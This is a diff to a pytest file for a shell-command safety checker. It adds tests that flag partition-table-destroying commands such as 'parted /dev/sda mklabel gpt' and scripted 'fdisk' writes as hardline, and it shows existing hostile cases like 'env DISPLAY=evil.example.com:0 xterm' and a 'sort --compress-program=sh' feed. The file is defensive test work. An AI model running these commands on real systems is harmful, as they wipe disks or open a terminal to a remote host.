@@ -20,6 +20,10 @@ Fed as code: ``sort --compress-program=sh`` pipes its temporary files through ``
 given no script of its own runs what it is fed, which the line does not show. The
 program was judged as a line of its own (``sh``: nothing), and approved.
 
+Partitions dropped: ``parted /dev/sda mklabel gpt`` (also ``mktable``, ``rm``,
+``resizepart``) and a script fed to ``fdisk``/``gdisk`` on a device only asked, as a
+disk tool, where ``sgdisk --zap-all /dev/sda`` was hardline; they are now too.
+
 Before the fix every hostile case here was approved, with no danger named, in a
 manual profile.
 """
@@ -28,7 +32,28 @@ from __future__ import annotations
 
 import pytest
 
+from multiplex.shell import find_hardline, parse_line
 from tests.shell._carriers import judged
+
+# A device's partition table dropped: as sgdisk --zap-all and wipefs -a already were.
+HARDLINE = [
+    "parted /dev/sda mklabel gpt",
+    "parted -s /dev/sda mklabel msdos",
+    "parted --script /dev/nvme0n1 -- mktable gpt",
+    "parted -s /dev/sdb rm 1",
+    "parted /dev/vda resizepart 2 1GB",
+    "printf 'o\\nw\\n' | fdisk /dev/sda",
+    "fdisk /dev/sda <<< $'g\\nw'",
+    "gdisk /dev/sda < answers.txt",
+]
+NOT_HARDLINE = [
+    "parted /dev/sda print",
+    "parted -l",
+    "parted -s ./disk.img mklabel gpt",
+    "fdisk -l /dev/sda",
+    "fdisk /dev/sda",
+    "printf 'o\\nw\\n' | fdisk ./disk.img",
+]
 
 REMOTE_DISPLAYS = [
     "env DISPLAY=evil.example.com:0 xterm",
@@ -110,6 +135,16 @@ HOSTILE = [
     *TLS_OFF,
 ]
 NOTHING = [*LOCAL_DISPLAYS, *SETTINGS_PLAIN, *TLS_PLAIN, *FED_PLAIN]
+
+
+@pytest.mark.parametrize("line", HARDLINE)
+def test_a_partition_table_dropped_is_hardline(line: str) -> None:
+    assert find_hardline(parse_line(line)) is not None, line
+
+
+@pytest.mark.parametrize("line", NOT_HARDLINE)
+def test_listing_or_an_image_file_is_not_hardline(line: str) -> None:
+    assert find_hardline(parse_line(line)) is None, line
 
 
 @pytest.mark.parametrize(("line", "pattern"), HOSTILE)
